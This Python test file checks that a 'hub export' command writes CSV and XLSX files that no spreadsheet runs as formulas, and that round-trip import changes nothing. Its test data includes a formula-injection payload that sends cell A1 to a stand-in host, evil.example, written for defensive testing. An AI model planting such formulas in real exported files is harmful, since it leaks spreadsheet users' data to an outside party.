"""`hub export` files are safe to open in a spreadsheet (no cell runs as a formula) and keep
every text exactly: export then import changes nothing."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from hub.demo.load import load_reference
from hub.domain.vocabulary import Language
from hub.graph.store import GraphStore
from hub.importer import files
from hub.importer.export import export_rows
from hub.importer.kinds import STARTUPS
from hub.services.imports import import_rows
from tests.conftest import Api, Keys
from tests.importer.helpers import digest

#: Texts a spreadsheet would run, and texts a careless reader or writer would change.
NAMES = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "plus": "+212 5 22 00 00 00",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "quoted": "'already quoted",
}
DESCRIPTION = 'ligne 1\nligne "2"\u2028suite ‏مرحبا‎ 🚀, fin'

CREATE = """
mutation($name: String!, $fr: String!) {
  createStartup(input: {name: $name, stage: IDEA, description: {fr: $fr}, cityId: "marseille"}) {
    id
  }
}"""


async def _tricky_startups(api: Api, keys: Keys) -> None:
    admin = await keys("admin")
    for name in NAMES.values():
        await api.data(CREATE, {"name": name, "fr": DESCRIPTION}, key=admin)


async def test_csv_cells_never_start_a_formula_and_come_back_unchanged(
    store: GraphStore, api: Api, keys: Keys, tmp_path: Path
) -> None:
    await load_reference(store)
    await _tricky_startups(api, keys)
    path = tmp_path / "out.csv"
    files.write(path, [c.name for c in STARTUPS.columns], await export_rows(store, STARTUPS))
    with path.open(encoding="utf-8", newline="") as raw:
        cells = [cell for row in csv.reader(raw) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + NAMES["formula"] in cells and "''already quoted" in cells
    before = await digest(store)
    columns, rows = files.read(path)
    report = await import_rows(store, STARTUPS, columns, rows)
    assert report.ok, [p.text(Language.EN) for p in report.problems]
    assert report.unchanged == len(NAMES) and report.updated == report.created == 0
    assert await digest(store) == before


async def test_xlsx_cells_are_strings_and_come_back_unchanged(
    store: GraphStore, api: Api, keys: Keys, tmp_path: Path
) -> None:
    await load_reference(store)
    await _tricky_startups(api, keys)
    path = tmp_path / "out.xlsx"
    files.write(path, [c.name for c in STARTUPS.columns], await export_rows(store, STARTUPS))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    assert NAMES["formula"] in {c.value for c in cells}
    before = await digest(store)
    columns, rows = files.read(path)
    report = await import_rows(store, STARTUPS, columns, rows)
    assert report.ok and report.unchanged == len(NAMES)
    assert await digest(store) == before


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_the_cli_exports_safe_files(tmp_path: Path, name: str) -> None:
    """`hub export` writes through the same writer: its CSV starts no cell with a formula."""
    env = {**os.environ, "HUB_DATA_DIR": str(tmp_path / "data"), "HUB_GRAPH_URI": ""}
    hub = Path(sys.executable).parent / "hub"
    subprocess.run([str(hub), "demo"], env=env, check=True, capture_output=True)
    out = tmp_path / name
    subprocess.run(
        [str(hub), "export", str(out), "--kind", "startups"],
        env=env,
        check=True,
        capture_output=True,
    )
    columns, rows = files.read(out)
    assert "name" in columns and rows
